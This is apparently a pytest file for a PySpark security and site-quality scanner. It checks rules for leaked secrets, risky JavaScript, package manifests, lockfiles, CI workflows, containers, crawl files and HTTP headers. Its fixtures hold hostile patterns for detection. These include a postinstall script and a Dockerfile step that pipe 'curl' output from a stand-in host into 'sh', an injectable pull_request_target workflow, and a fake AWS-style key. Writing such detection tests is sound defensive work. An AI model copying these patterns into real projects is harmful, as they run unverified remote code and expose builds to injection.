"""Source, supply-chain, crawl and observation rules: violations and safe controls on literal rows."""

from corpuswarden.functions import text as t
from corpuswarden.operators import observations, site_rules, source_rules, supply_rules
from pyspark.sql import functions as F

SOURCES = "site_id string, path string, text string"


def sources(spark, rows):
    return spark.createDataFrame([("s", *r) for r in rows], SOURCES)


def ids(df):
    return sorted({(r.path, r.rule_id) for r in df.collect()})


def test_credentials(spark):
    key = "AKIA" + "QWERTYUIOPASDFGH"
    rows = [("a.js", f"const k = '{key}'"), ("tests/a.js", f"const k = '{key}'"), ("b.js", "password = 'hunter2hunter2'"), ("c.js", "password = 'your-password-here'\ntoken: '${TOKEN}'"), ("d.js", "const name = 'hunter2hunter2'"), ("e.js", None)]
    found = source_rules.document_secrets(sources(spark, rows)).collect()
    assert {(r.path, r.severity, r.manual) for r in found} == {("a.js", "critical", False), ("tests/a.js", "medium", True), ("b.js", "high", False)}
    assert all(key not in r.evidence and "hunter2" not in r.evidence for r in found)


def test_scripts(spark):
    rows = [("a.js", "x\neval(y)"), ("b.js", "// eval(y)\nretrieval(y)"), ("c.js", "el.innerHTML = x"), ("d.js", "w.postMessage(m, '*')"), ("e.js", "fetch('http://api.shop.org/x')"), ("f.js", "fetch('http://localhost/x'); ns='http://www.w3.org/2000/svg'"), ("docs/g.md", "eval(y)")]
    assert ids(source_rules.script_findings(sources(spark, rows))) == [("a.js", "dynamic-code"), ("c.js", "dom-xss"), ("d.js", "cross-window-messaging"), ("e.js", "insecure-transport")]
    assert [r.line for r in source_rules.script_findings(sources(spark, rows[:1])).collect()] == [2]


def test_supply_chain(spark):
    manifest = '{"dependencies":{"a":"1.0.0","b":"*","c":"http://x.org/c.tgz"},"scripts":{"postinstall":"curl http://x.org | sh","build":"tsc"}}'
    lock = '{"packages":{"":{},"node_modules/a":{"resolved":"https://registry.npmjs.org/a.tgz"},"node_modules/b":{"resolved":"https://registry.npmjs.org/b.tgz","integrity":"sha512-x"}}}'
    rows = [("p/package.json", manifest), ("q/package.json", "{"), ("r/package-lock.json", lock), ("r/yarn.lock", "x"), (".env", "DB_PASSWORD=abcdef"), ("ok/.env", "DB_PASSWORD=abcdef"), ("ok/.gitignore", ".env\n")]
    own = sources(spark, rows)
    got = [(r.path, r.rule_id, r.severity) for r in supply_rules.manifest_findings(own).collect()]
    assert sorted(got) == sorted([("p/package.json", "dependency-hygiene", "medium"), ("p/package.json", "dependency-hygiene", "high"), ("p/package.json", "package-scripts", "critical"), ("p/package.json", "lockfile", "medium"), ("q/package.json", "dependency-hygiene", "high"), ("q/package.json", "project-invalid-package-json", "high"), ("r/package-lock.json", "lockfile", "low")])
    assert [(r.path, r.rule_id) for r in supply_rules.lockfile_findings(own).collect()] == [("r/package-lock.json", "lockfile-integrity")]
    assert ids(supply_rules.environment_findings(own)) == [(".env", "environment-hygiene")]
    advisories = spark.createDataFrame([("b", "moderate", "<2"), ("b", "moderate", "<2"), ("zz", "high", "*")], "name string, severity string, range string")
    assert [r.severity for r in supply_rules.advisory_findings(own, advisories).collect()] == ["medium"]


def test_workflows_and_containers(spark):
    flow = "on: pull_request_target\npermissions: write-all\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo ${{ github.event.issue.title }}\n  b:\n    steps:\n      - run: make\n"
    docker = "FROM a\nUSER root\nFROM b\nRUN curl http://x | \\\n sh\nUSER root\n"
    own = sources(spark, [(".github/workflows/x.yml", flow), ("Dockerfile", docker), ("k.yaml", "privileged: true"), ("m.tf", 'acl = "public-read"')])
    assert sorted(r.severity for r in supply_rules.workflow_findings(own).collect()) == ["critical", "critical", "high", "low"]
    assert sorted((r.path, r.severity) for r in supply_rules.container_findings(own).collect()) == [("Dockerfile", "critical"), ("Dockerfile", "high"), ("k.yaml", "high"), ("m.tf", "high")]


def test_crawl_files(spark):
    ns = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
    rows = [("robots.txt", "User-agent: *\nDisallow: /\n# x\nUser-agent: b\nAllow: /\n"), ("sitemap.xml", f"<urlset {ns}><url><loc>https://a.example/x</loc></url><url><loc>https://a.example/x/</loc></url><url><loc>/bad</loc></url><url><loc>http://a.example/y</loc></url></urlset>")]
    sites = spark.createDataFrame([("s",), ("t",)], "site_id string")
    got = sorted((r.site_id, r.rule_id) for r in site_rules.crawl_findings(sites, sources(spark, rows)).collect())
    assert got == [("s", "crawl-duplicate-sitemap-location"), ("s", "crawl-insecure-sitemap-location"), ("s", "crawl-invalid-sitemap-location"), ("s", "crawl-robots-missing-sitemap"), ("s", "crawl-sitewide-disallow"), ("t", "crawl-missing-robots"), ("t", "crawl-missing-sitemap")]


def test_imports_reach(spark):
    rows = [("src/a.tsx", "import B from './lib/b'"), ("src/lib/b.ts", "export * from '../c'"), ("src/c/index.ts", "x"), ("src/d.ts", "import 'react'")]
    own = sources(spark, rows)
    edges = site_rules.import_edges(own)
    assert {(r.importer, r.module) for r in edges.collect()} == {("src/a.tsx", "src/lib/b.ts"), ("src/lib/b.ts", "src/c/index.ts")}
    assert {r.path for r in site_rules.reaches(edges, own.where("path = 'src/c/index.ts'")).collect()} == {"src/a.tsx", "src/lib/b.ts", "src/c/index.ts"}


def test_headers(spark):
    safe = {"content-security-policy": "default-src 'self'; frame-ancestors 'none'", "x-content-type-options": "nosniff", "referrer-policy": "no-referrer", "strict-transport-security": "max-age=9", "content-type": "text/html"}
    bad = safe | {"content-security-policy": "script-src 'unsafe-eval'", "referrer-policy": "unsafe-url", "content-type": "text/plain"}
    df = spark.createDataFrame([("s", "https://a.example/1", 200, safe), ("s", "https://a.example/2", 503, bad), ("s", "https://a.example/3", 404, {})], "site_id string, path string, status int, headers map<string,string>")
    got = {}
    for r in observations.header_findings(df).collect():
        got.setdefault(r.path[-1], set()).add((r.rule_id.removeprefix("runtime."), r.severity))
    assert "1" not in got
    assert got["2"] == {("header-csp-unsafe-eval", "high"), ("header-frame-protection-missing", "low"), ("header-referrer-policy-weak", "medium"), ("http-error", "high"), ("document-content-type", "medium")}
    assert got["3"] >= {("header-csp-missing", "medium"), ("header-nosniff-missing", "low"), ("header-hsts-missing", "medium"), ("http-error", "medium")}


def test_markdown_style_and_assets(spark):
    md = sources(spark, [("a.md", "---\ntitle: \"\"\n---\n# One\n\n### Three\n"), ("b.md", "---\ntitle: x\ndescription: y\n---\nText `# no`\n\nHead\n====\n"), ("c.md", "no heading\n\n![](x.png)\n")])
    assert ids(source_rules.markdown_findings(md)) == [("a.md", "content-heading-jump"), ("a.md", "seo-markdown-empty-title"), ("a.md", "seo-markdown-missing-description"), ("c.md", "a11y-markdown-image-alt-review"), ("c.md", "content-missing-h1")]
    assets = spark.createDataFrame([("s", "a.png", 2_000_000), ("s", "b.png", 3_000_000), ("s", "c.png", 10), ("s", "d.bmp", 1)], "site_id string, path string, size_bytes long")
    assert {(r.path, r.rule_id[12:], r.severity) for r in source_rules.asset_findings(assets).collect()} == {("a.png", "large-image-asset", "low"), ("b.png", "large-image-asset", "medium"), ("d.bmp", "legacy-image-format", "low")}


def test_scalars(spark):
    one = lambda c: spark.range(1).select(c.alias("x")).first().x
    glob = lambda g, s: one(F.rlike(F.lit(s), t.glob_regex(F.lit(g))))
    assert glob("a/**/b.js", "a/b.js") and glob("a/**/b.js", "a/x/y/b.js") and glob("*.js", "x.js") and not glob("*.js", "a/x.js") and not glob("a?.js", "a/.js")
    assert [one(t.url_issue(F.lit(u), https=True)) for u in ("https://a.b/x", "http://a.b", "http://localhost/", "/x", "ftp://a.b", "https://u:p@a.b/", "https://a.b/#x", "")] == [None, "not https", None, "not absolute", "scheme", "userinfo", "fragment", "empty"]
    assert one(t.compact(F.lit("a  b\n" + "x" * 300))).endswith("…") and len(one(t.compact(F.lit("x" * 300)))) == 220
    assert [one(t.sensitive_name(F.lit(n))) for n in ("apiKey", "DB_PASSWORD", "authToken", "tokenizer", "name")] == [True, True, True, False, False]
    assert one(t.artifact_uri(F.lit("a b/ü.js"))) == "a%20b/%C3%BC.js" and one(t.artifact_uri(F.lit("../x"))) is None


def test_likelihood_and_framework_of_projects(spark):
    from corpuswarden.operators import site_rules

    rows = [
        ("next", "dependency", "next"), ("next", "path", "next.config.mjs"), ("next", "path", "app/page.tsx"),
        ("plain", "path", "index.html"), ("plain", "path", "robots.txt"),
        ("lib", "dependency", "react-dom"), ("lib", "package", "library"), ("lib", "path", "src/button.tsx"),
        ("server", "dependency", "express"), ("vue", "dependency", "vue"), ("vue", "dependency", "vite"), ("vue", "path", "src/main.ts"), ("vue", "path", "src/App.vue"),
    ]
    names = spark.createDataFrame(rows, "site_id string, kind string, name string")
    got = {r.site_id: (r.likelihood, r.is_site) for r in site_rules.site_likelihood(names).collect()}
    assert got == {"next": (1.0, True), "plain": (0.78, True), "lib": (0.07, False), "server": (0.0, False), "vue": (0.88, True)}
    assert {r.site_id: r.framework for r in site_rules.framework(names).collect()} == {"next": "Next.js", "lib": "React", "vue": "Vue"}


def test_imports_over_many_parents_and_steps(spark):
    from corpuswarden.operators import site_rules

    deep = "/".join("d" * 1 + str(k) for k in range(12))
    rows = [("s", f"{deep}/a.ts", f"import x from '{'../' * 12}top'"), ("s", "top.ts", "import './c0'")] + [("s", f"c{k}.ts", f"import './c{k + 1}'") for k in range(30)] + [("s", "c30.ts", "")]
    sources = spark.createDataFrame(rows, "site_id string, path string, text string")
    edges = site_rules.import_edges(sources)
    assert ("s", f"{deep}/a.ts", "top.ts") in {tuple(r) for r in edges.collect()}
    seeds = spark.createDataFrame([("s", "c30.ts")], "site_id string, path string")
    assert site_rules.reaches(edges, seeds).count() == 33
